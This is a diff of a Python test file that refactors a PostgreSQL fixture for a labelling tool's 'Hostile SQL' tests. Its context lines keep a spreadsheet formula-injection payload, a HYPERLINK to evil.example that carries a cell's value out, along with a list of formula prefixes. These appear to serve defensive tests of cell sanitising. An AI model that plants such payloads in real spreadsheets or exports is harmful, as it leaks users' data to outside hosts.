@@ -17,18 +17,17 @@ import pandas as pd
 import psycopg
 import pytest
 from typer.testing import CliRunner
-from warehouse_data import synthetic_workspace
+from warehouse_data import PG_SERVER, owned_database, synthetic_workspace
 
 from smo_labelstudio.cli import app
 from smo_labelstudio.core.csvcells import safe_cell
-from smo_labelstudio.core.postgres import PgUrl, create_database, drop_database
+from smo_labelstudio.core.postgres import PgUrl
 from smo_labelstudio.core.spec import load_spec
 from smo_labelstudio.core.workspace import Workspace, write_parquet
 from smo_labelstudio.warehouse import publish as wh
 from smo_labelstudio.warehouse.tables import build_tables
 
 REPO = Path(__file__).resolve().parents[2]
-PG_SERVER = "postgresql://root@127.0.0.1:5432"
 TITLE = "Hostile SQL"
 HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 FORMULAS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\uff1dSUM(A1)"]
@@ -118,20 +117,10 @@ def pg(tmp_path):
     """A database owned by a role that can write it (not a superuser), the project published there by that
     role; yields (the owner's URL, a superuser's URL to the same database)."""
     name = f"smo_sql_{secrets.token_hex(4)}"
-    owner = f"{name}_owner"
-    admin = PgUrl.parse(f"{PG_SERVER}/postgres")
-    with psycopg.connect(admin.conninfo(), autocommit=True) as conn:
-        conn.execute(f'create role "{owner}" login')
-    create_database(admin.with_db(name))
-    with psycopg.connect(admin.conninfo(), autocommit=True) as conn:
-        conn.execute(f'alter database "{name}" owner to "{owner}"')
-    url = f"postgresql://{owner}@127.0.0.1:5432/{name}"
-    ws = Workspace(tmp_path / "ws" / "hostile-sql")
-    wh.publish(ws, None, wh.target(ws, url), tables=_tables(tmp_path))
-    yield url, f"{PG_SERVER}/{name}"
-    drop_database(admin.with_db(name))
-    with psycopg.connect(admin.conninfo(), autocommit=True) as conn:
-        conn.execute(f'drop role if exists "{owner}"')
+    with owned_database(name) as url:
+        ws = Workspace(tmp_path / "ws" / "hostile-sql")
+        wh.publish(ws, None, wh.target(ws, url), tables=_tables(tmp_path))
+        yield url, f"{PG_SERVER}/{name}"
 
 
 def _pg_count(url: str) -> int:
